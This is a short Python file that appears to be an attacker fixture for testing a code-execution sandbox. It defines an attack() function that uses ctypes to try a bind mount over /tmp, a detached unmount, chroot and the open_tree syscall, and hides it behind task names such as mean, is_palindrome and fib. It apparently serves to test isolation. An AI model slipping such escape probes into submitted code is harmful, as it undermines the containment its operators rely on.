import ctypes

from attacker import TARGETS, wins_if

BIND, DETACH, CLONE = 4096, 2, 1


def attack(value):
    libc = ctypes.CDLL(None)
    work = TARGETS["work"].encode()
    done = libc.mount(work, b"/tmp", None, BIND, None), libc.umount2(b"/tmp", DETACH)
    return 0 in (*done, libc.chroot(work)) or libc.syscall(428, -100, work, CLONE) >= 0


mean = is_palindrome = word_count = fib = wins_if(attack)
